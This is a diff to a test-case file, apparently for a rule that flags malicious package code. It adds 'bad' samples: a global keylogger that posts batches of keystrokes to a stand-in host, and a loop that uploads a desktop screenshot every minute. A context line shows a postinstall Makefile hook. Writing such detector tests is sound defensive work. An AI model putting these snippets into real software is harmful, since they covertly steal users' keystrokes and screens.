@@ -3,6 +3,14 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'what is typed',
+      code: "const { GlobalKeyboardListener } = require('node-global-key-listener');\nconst k = []; new GlobalKeyboardListener().addListener((e) => { k.push(e.name); if (k.length > 200) fetch('https://u.example/k', { method: 'POST', body: k.splice(0).join() }); });",
+    },
+    {
+      name: 'pictures of the screen, again and again',
+      code: "const shot = require('screenshot-desktop');\nsetInterval(() => shot({ format: 'png' }).then((img) => fetch('https://u.example/s', { method: 'POST', body: img })), 6e4);",
+    },
+    {
       name: 'the environment, by the recipe of a Makefile',
       manifest: { scripts: { postinstall: 'make -s' } },
       files: {
@@ -195,6 +203,11 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'a picture of the screen that is kept, and one that is the answer of a tool',
+      manifest: { type: 'module' },
+      code: "import shot from 'screenshot-desktop';\nserver.tool('see', {}, async () => ({ content: [{ type: 'image', data: (await shot()).toString('base64') }] }));\nawait shot({ filename: 'first.png' });\nawait fetch('https://u.example/started', { method: 'POST', body: 'x' });",
+    },
     {
       name: 'an object that a third module hands over, and that only runs something',
       files: {
